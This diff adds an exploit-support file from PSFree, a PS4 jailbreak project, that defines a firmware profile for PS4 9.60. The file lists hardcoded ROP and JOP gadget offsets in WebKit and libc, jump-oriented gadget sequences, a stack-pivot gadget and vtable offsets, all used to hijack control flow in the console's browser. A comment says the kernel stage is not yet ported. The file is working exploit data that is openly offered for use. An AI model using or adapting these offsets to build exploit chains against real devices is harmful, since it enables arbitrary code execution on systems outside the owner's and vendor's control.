@@ -0,0 +1,128 @@
+/* Copyright (C) 2023 anonymous
+
+This file is part of PSFree.
+
+PSFree is free software: you can redistribute it and/or modify
+it under the terms of the GNU Affero General Public License as
+published by the Free Software Foundation, either version 3 of the
+License, or (at your option) any later version.
+
+PSFree is distributed in the hope that it will be useful,
+but WITHOUT ANY WARRANTY; without even the implied warranty of
+MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+GNU Affero General Public License for more details.
+
+You should have received a copy of the GNU Affero General Public License
+along with this program.  If not, see <https://www.gnu.org/licenses/>.  */
+
+// firmware profile for PS4 9.60, see module/profiles.mjs
+//
+// by janisslsm (John) and barooney from ps4-dev discord
+
+import { ta_jop1, jop3, jop5 } from '../rop_gadgets.mjs';
+
+const ta_jop2 = `
+pop rsi
+cmc
+jmp qword ptr [rax + 0x7c]
+`;
+const ta_jop3 = `
+mov rdi, qword ptr [rax + 8]
+mov rax, qword ptr [rdi]
+jmp qword ptr [rax + 0x30]
+`;
+const jop2 = `
+push rbp
+mov rbp, rsp
+mov rax, qword ptr [rdi]
+call qword ptr [rax + 0x58]
+`;
+const jop4 = `
+push rdx
+jmp qword ptr [rax]
+`;
+const pivot = 'pop rsi; cmc; jmp qword ptr [rax + 0x7c]';
+
+export const profile = {
+    id : 'ps4_9_60',
+    name : 'PS4 9.60',
+
+    jmp_buf_size : 0xc8,
+
+    jop : {
+        ta_jop1,
+        ta_jop2,
+        ta_jop3,
+        jop2,
+        jop3,
+        jop4,
+        jop5,
+        pivot,
+    },
+    vtable : {
+        scroll_left : 0x1b8,
+        ta_jop2 : 0xb8,
+        ta_jop3 : 0x7c,
+    },
+    rax_ptrs : {
+        jop2 : 0x30,
+        jop3 : 0x58,
+        jop4 : 0x10,
+        jop5 : 0,
+        rsp : 0x18,
+    },
+    pivot_slot : 0x7c,
+
+    webkit_gadget_offsets : new Map(Object.entries({
+        'pop rax; ret' : 0x0000000000011c46,
+        'pop rbx; ret' : 0x0000000000013730,
+        'pop rcx; ret' : 0x0000000000035a1e,
+        'pop rdx; ret' : 0x000000000018de52,
+
+        'pop rbp; ret' : 0x00000000000000b6,
+        'pop rsi; ret' : 0x0000000000092a8c,
+        'pop rdi; ret' : 0x000000000005d19d,
+        'pop rsp; ret' : 0x00000000000253e0,
+
+        'pop r8; ret' : 0x000000000003fe32,
+        'pop r9; ret' : 0x0000000000aaad51,
+        'pop r11; ret' : 0x0000000000520109,
+
+        'pop r12; ret' : 0x0000000000420ad1,
+        'pop r13; ret' : 0x00000000018fc4c1,
+        'pop r14; ret' : 0x000000000028c900,
+        'pop r15; ret' : 0x00000000001619db,
+
+        'ret' : 0x0000000000000032,
+        'leave; ret' : 0x0000000000056322,
+
+        'neg rax; and rax, rcx; ret' : 0x00000000014d2af4,
+        'adc esi, esi; ret' : 0x00000000004fd968,
+        'add rax, rdx; ret' : 0x00000000006d1a88,
+        'push rsp; jmp qword ptr [rax]' : 0x0000000002c80f76,
+        'add rcx, rsi; and rdx, rcx; or rax, rdx; ret' : 0x00000000008e6b06,
+        [pivot] : 0x0000000002bf3741,
+
+        'mov qword ptr [rdi], rsi; ret' : 0x00000000000b2350,
+        'mov rax, qword ptr [rax]; ret' : 0x000000000000c671,
+        'mov qword ptr [rdi], rax; ret' : 0x0000000000010c07,
+        'mov dword ptr [rdi], eax; ret' : 0x00000000000071d0,
+        'mov rdx, rcx; ret' : 0x0000000000b9cb04,
+        'mov qword ptr [rsi], rcx; ret' : 0x000000000012a5ca,
+
+        [jop2] : 0x00000000001a75a0,
+        [jop3] : 0x000000000035fc94,
+        [jop4] : 0x00000000002b7a9c,
+
+        [ta_jop1] : 0x000000000060fd94,
+        [ta_jop2] : 0x0000000002bf3741,
+        [ta_jop3] : 0x000000000181e974,
+    })),
+    libc_gadget_offsets : new Map(Object.entries({
+        'neg rax; ret' : 0x00000000000d2923,
+        'mov rdx, rax; xor eax, eax; shl rdx, cl; ret' : 0x00000000000cda59,
+    })),
+
+    // the kernel exploit is not ported to this firmware yet
+    kernel : null,
+};